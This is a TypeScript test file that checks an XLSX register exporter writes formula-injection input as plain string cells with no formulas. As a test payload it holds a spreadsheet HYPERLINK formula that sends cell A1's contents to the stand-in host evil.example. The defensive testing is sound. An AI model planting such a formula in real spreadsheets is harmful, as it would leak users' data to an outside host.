import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { buildRegister } from "./build";
import { ICO_CONTROLLER_COLUMNS } from "./ico-layout";
import { testActivity, testSource } from "./test-source";
import { CONTACT_BLOCK_ROWS, CONTROLLER_SHEET, renderRegisterXlsx } from "./xlsx";

describe("renderRegisterXlsx and formula injection", () => {
  // The XLSX is written without the CSV's protective quote: a cell typed as a string is never
  // evaluated by a spreadsheet, however it begins. This proves the cell is a string, not a formula.
  it("writes a value that begins with = as a string cell, without a formula", async () => {
    const payload = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const register = buildRegister(testSource([testActivity({ name: payload, description: "@SUM(1,2)" })]));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderRegisterXlsx(register)) as unknown as ArrayBuffer);
    const row = workbook.getWorksheet(CONTROLLER_SHEET)!.getRow(CONTACT_BLOCK_ROWS + 2);
    const cell = row.getCell(ICO_CONTROLLER_COLUMNS.findIndex((column) => column.key === "name") + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(payload);
    let formulas = 0;
    workbook.eachSheet((sheet) => sheet.eachRow((r) => r.eachCell((c) => (formulas += c.type === ExcelJS.ValueType.Formula ? 1 : 0))));
    expect(formulas).toBe(0);
  });
});
